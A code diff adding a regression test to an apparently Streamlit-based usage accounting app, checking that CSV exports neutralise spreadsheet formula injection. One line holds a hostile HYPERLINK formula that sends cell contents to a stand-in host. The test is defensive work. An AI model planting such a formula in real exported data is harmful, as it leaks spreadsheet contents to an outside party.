@@ -174,3 +174,46 @@ def test_folded_filters_keep_their_values(home: Path) -> None:
     at.session_state["f_filters_open"] = True
     at.run()
     assert at.multiselect(key="f_org").value == ["org1"]
+
+
+def test_the_accounting_csv_escapes_formula_names(home: Path) -> None:
+    """An org named '=HYPERLINK(...)' reaches finance's spreadsheet as text, as in the usage
+    export (the summary's CSV downloads wrote it bare: a formula Excel runs on open)."""
+    from streamlit.runtime.memory_media_file_storage import _calculate_file_id
+
+    evil = '=HYPERLINK("http://x.example/?"&A1,"open")'
+    with UsageLog(home) as log:
+        for rid, unpriced in (("e1", False), ("e2", True)):
+            log.append(
+                UsageEvent(
+                    request_id=rid,
+                    ts=clock.now() - timedelta(hours=1),
+                    org=evil,
+                    provider="dryrun",
+                    model="mystery" if unpriced else "dryrun-small",
+                    cost_picousd=None if unpriced else 10**12,
+                    unpriced=unpriced,
+                )
+            )
+    with Reader(home) as reader:
+        acc = accounting(reader, Filters(org=evil), "org", "UTC")
+    for data in (acc.csv(), acc.csv(unpriced=True)):
+        assert list(pd.read_csv(io.BytesIO(data))["org"]) == ["'" + evil]
+    assert list(pd.read_csv(io.BytesIO(acc.csv()), dtype=str)["cost_usd"]) == ["1.000000000000"]
+    at = app("viewer").run()
+    at.switch_page("app_pages/import_export.py").run()
+    urls = {b.proto.id.rsplit("-", 1)[-1]: b.proto.url for b in at.get("download_button")}
+    selection = at.session_state["selection"]
+    with Reader(home) as reader:  # what the page shows: its range, zone and currency
+        shown = accounting(
+            reader,
+            selection.scope.filters(),
+            "org",
+            selection.scope.tz,
+            selection.money.currency,
+            selection.money.rate,
+        )
+    assert evil in set(shown.priced["org"])
+    name = f"costline-accounting-org-{selection.money.currency.lower()}.csv"
+    want = _calculate_file_id(shown.csv(), "text/csv", name)
+    assert urls["exp_acc_csv"].endswith(f"/{want}.csv")
